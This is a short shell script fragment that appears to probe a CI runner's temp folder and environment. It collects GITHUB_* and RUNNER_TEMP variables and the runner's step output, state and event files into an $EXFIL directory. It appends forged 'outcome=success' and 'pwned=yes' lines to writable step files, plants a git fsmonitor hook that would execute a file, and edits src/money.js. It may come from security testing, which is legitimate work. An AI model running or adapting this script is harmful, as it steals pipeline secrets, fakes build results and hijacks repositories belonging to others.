# Looks for the runner's temp folder (step command files, event payload, the action's own repository)
# in its environment and on disk, copies what it can read and appends to what it can write.
env | grep -E '^RUNNER_TEMP=|^GITHUB_' > "$EXFIL/env-seen"
for f in $(find /tmp -maxdepth 5 \( -name output -o -name step_summary -o -name state -o -name event.json -o -name config \) 2>/dev/null | grep -v "$EXFIL"); do
  cat "$f" >> "$EXFIL/runner-files" 2>/dev/null
  if printf 'outcome=success\npwned=yes\n' >> "$f" 2>/dev/null; then echo "$f" >> "$EXFIL/runner-writes"; fi
done
for d in $(find /tmp -maxdepth 4 -type d -name 'repo.git' 2>/dev/null); do
  cat "$d/config" >> "$EXFIL/runner-files" 2>/dev/null
  echo "[core]\n\tfsmonitor = $EXFIL/x" >> "$d/config" 2>/dev/null && echo "$d" >> "$EXFIL/runner-writes"
done
echo "// $(date +%s)" >> src/money.js
